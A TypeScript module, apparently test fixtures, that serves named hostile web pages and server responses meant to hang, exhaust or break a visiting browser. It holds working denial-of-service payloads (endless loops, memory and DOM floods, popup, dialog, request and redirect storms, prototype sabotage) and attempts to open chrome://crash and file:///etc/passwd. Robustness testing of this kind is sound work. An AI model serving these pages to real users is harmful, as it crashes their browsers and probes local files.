// Owns a set of pages made to keep a browser busy, fill its memory, get out of the visit or break whoever visits. Never open them outside a sandboxed browser with limits.
import type { ServerResponse } from 'node:http'
import { setInterval } from 'node:timers'

/** The whole page, or how it is answered; `path` is its own address, from which it may name others below it. */
type HostilePage = string | ((response: ServerResponse, path: string, rest: string) => void)

const form = '<h1>Pay</h1><form action="/pay"><input autocomplete="cc-number" name="card"><button>Pay</button></form>'
const script = (code: string, after = '') => `<!doctype html><title>Pay</title>${form}<script>${code}</script>${after}`
const html = { 'content-type': 'text/html' }
const kibibyte = 'x'.repeat(1024)

/** Sends `chunk` again and again until the other side goes away. */
function endlessly(response: ServerResponse, chunk: string, everyMs = 0): void {
  const timer = setInterval(() => response.write(chunk), Math.max(1, everyMs))
  response.once('close', () => clearInterval(timer))
}

const loops: Record<string, HostilePage> = {
  'loop-for-ever': script('for(;;){}'),
  'loop-after-load': script('addEventListener("load", () => { for(;;){} })'),
  'loop-in-timers': script('function t(){ setTimeout(t, 0); const end = Date.now() + 500; while (Date.now() < end); } t(); t()'),
  'loop-of-promises': script('function p(){ Promise.resolve().then(p) } p()'),
  'loop-of-frames': script('function f(){ requestAnimationFrame(f); for (let i = 0; i < 5e7; i++); } f()'),
  'loop-in-input': script('document.querySelector("input").addEventListener("input", () => { for(;;){} })'),
  'loop-in-unload': script('addEventListener("beforeunload", (e) => { e.preventDefault(); for(;;){} })'),
  'loop-in-worker': script('new Worker(URL.createObjectURL(new Blob(["for(;;){}"])))'),
  'loop-in-getter': script('Object.defineProperty(Object.prototype, "value", { get(){ for(;;){} } })'),
  'loop-in-toString': script('Function.prototype.toString = function(){ for(;;){} }'),
  'loop-of-recursion': script('function r(){ try { r() } finally { r() } } r()'),
  'loop-of-regex': script('/^(a+)+$/.test("a".repeat(60) + "!")'),
}

const growth: Record<string, HostilePage> = {
  'memory-of-arrays': script(
    'const kept = []; setInterval(() => { for (let i = 0; i < 50; i++) kept.push(new Uint8Array(1e7).fill(1)) }, 1)',
  ),
  'memory-of-texts': script(
    'let s = "x"; const kept = []; setInterval(() => { s += s.length < 2e8 ? s : ""; kept.push(s + kept.length) }, 5)',
  ),
  'memory-of-canvas': script(
    'setInterval(() => { const c = document.createElement("canvas"); c.width = c.height = 8192; c.getContext("2d").fillRect(0, 0, 8192, 8192); document.body.append(c) }, 20)',
  ),
  'memory-of-workers': script(
    'const b = URL.createObjectURL(new Blob(["const k=[];setInterval(()=>k.push(new Uint8Array(1e6).fill(1)),9)"])); for (let i = 0; i < 60; i++) new Worker(b)',
  ),
  'nodes-at-once': script(
    'const f = document.createDocumentFragment(); for (let i = 0; i < 1e6; i++) f.append(document.createElement("p")); document.body.append(f)',
  ),
  'nodes-for-ever': script('setInterval(() => { for (let i = 0; i < 2e4; i++) document.body.append(document.createElement("input")) }, 1)'),
  'nodes-deep': script(
    'let at = document.body; for (let i = 0; i < 1e5; i++) { const d = document.createElement("div"); at.append(d); at = d }',
  ),
  'fields-many': `<!doctype html>${'<input autocomplete="cc-number">'.repeat(20_000)}`,
  'frames-many': script(
    'for (let i = 0; i < 300; i++) { const f = document.createElement("iframe"); f.srcdoc = "<input autocomplete=cc-number>"; document.body.append(f) }',
  ),
  'frames-in-frames': script(
    'if (location.hash.length < 60) { const f = document.createElement("iframe"); f.src = location.pathname + location.hash + "#x"; document.body.append(f) }',
  ),
  'scripts-many': script(
    'for (let i = 0; i < 20000; i++) { const s = document.createElement("script"); s.text = "var v" + i + "=" + i; document.head.append(s) }',
  ),
  'evals-many': script('let i = 0; setInterval(() => { for (let n = 0; n < 2000; n++) eval("var e" + i++ + "=1") }, 1)'),
  'evals-large': script('let s = "1;"; while (s.length < 3e7) s += s; setInterval(() => eval(s), 50)'),
  'functions-many': script('setInterval(() => { for (let n = 0; n < 2000; n++) new Function("return " + Math.random())() }, 1)'),
  'styles-many': script(
    'setInterval(() => { const s = document.createElement("style"); s.textContent = "*:has(*) *:has(*) { color: red }".repeat(500); document.head.append(s) }, 5)',
  ),
  'console-many': script('setInterval(() => { for (let n = 0; n < 5000; n++) console.log("x".repeat(1000), { n }) }, 1)'),
  'cookies-many': script('for (let i = 0; i < 5000; i++) document.cookie = "c" + i + "=" + "x".repeat(4000)'),
  'storage-full': script(
    'try { for (let i = 0; ; i++) localStorage["k" + i] = "x".repeat(1e5) } catch {} const d = indexedDB.open("d"); d.onupgradeneeded = () => d.result.createObjectStore("s"); d.onsuccess = () => setInterval(() => { try { d.result.transaction("s", "readwrite").objectStore("s").put(new Uint8Array(1e7), Math.random()) } catch {} }, 5)',
  ),
  'requests-many': script(
    'let i = 0; setInterval(() => { for (let n = 0; n < 200; n++) fetch(location.pathname + "/" + i++).catch(() => {}) }, 1)',
  ),
  'beacons-many': script(
    'setInterval(() => { for (let n = 0; n < 50; n++) navigator.sendBeacon(location.pathname + "/b", "x".repeat(6e4)) }, 1)',
  ),
  'sockets-many': script(
    'setInterval(() => { for (let n = 0; n < 50; n++) new WebSocket("ws://" + location.host + location.pathname) }, 10)',
  ),
  'messages-many': script('onmessage = () => { postMessage("x".repeat(1e5), "*"); postMessage(1, "*") }; postMessage(1, "*")'),
}

const ways: Record<string, HostilePage> = {
  'windows-many': script('setInterval(() => open(location.href), 20); onclick = () => open(location.href)'),
  'dialogs-many': script('setInterval(() => { alert("a"); confirm("b"); prompt("c"); print() }, 1)'),
  'reload-for-ever': script('setTimeout(() => location.reload(), 50)'),
  'walk-for-ever': script('setTimeout(() => location.href = location.pathname + "?" + Math.random(), 50)'),
  'history-for-ever': script('let i = 0; setInterval(() => { for (let n = 0; n < 50; n++) history.pushState(0, "", "?" + i++) }, 1)'),
  'download-many': script(
    'setInterval(() => { const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["x".repeat(1e6)])); a.download = "x"; a.click() }, 20)',
  ),
  'browser-addresses': script(
    'for (const to of ["chrome://crash", "file:///etc/passwd", "view-source:" + location]) { open(to); const f = document.createElement("iframe"); f.src = to; document.body.append(f) } setTimeout(() => location.href = "chrome://crash", 300)',
  ),
  'submit-many': script('setInterval(() => document.forms[0].submit(), 5)'),
  'prototypes-broken': script(
    'for (const c of [Array, Object, String, Promise, Map, Function, JSON]) for (const n of Object.getOwnPropertyNames(c.prototype ?? c)) try { (c.prototype ?? c)[n] = () => { throw 1 } } catch {}',
  ),
  'text-hostile': script(
    'document.title = "\\u202e\\u0000" + "\\ud800".repeat(1e5); document.cookie = "a=\\u0000"; const s = document.createElement("script"); s.src = "/\\ud800".repeat(500); document.head.append(s)',
  ),
}

const servers: Record<string, HostilePage> = {
  'redirect-for-ever': (response, path, rest) => response.writeHead(302, { location: `${path}/${Number(rest || 0) + 1}` }).end(),
  'headers-large': (response) => response.writeHead(200, { ...html, 'x-filler': 'x'.repeat(200_000) }).end(form),
  'body-for-ever': (response) => endlessly(response.writeHead(200, html), `${form}${kibibyte.repeat(64)}`),
  'drip-for-ever': (response) => endlessly(response.writeHead(200, html), '<p>', 200),
  silence: () => {},
  'length-wrong': (response) => {
    response.writeHead(200, { ...html, 'content-length': '1000000' }).write(form)
    setTimeout(() => response.destroy(), 200)
  },
}

/** Each page by its name. */
export const hostilePages: Readonly<Record<string, HostilePage>> = { ...loops, ...growth, ...ways, ...servers }

/** Answers a request for `/NAME` or what is below it. */
export function answerHostile(url: string, response: ServerResponse): void {
  const [, name = '', rest = ''] = (url.split('?')[0] ?? '').split('/')
  const page = hostilePages[name]
  if (page === undefined) response.writeHead(404).end()
  else if (typeof page === 'function') page(response, `/${name}`, rest)
  else if (rest === '') response.writeHead(200, html).end(page)
  else response.writeHead(204).end()
}
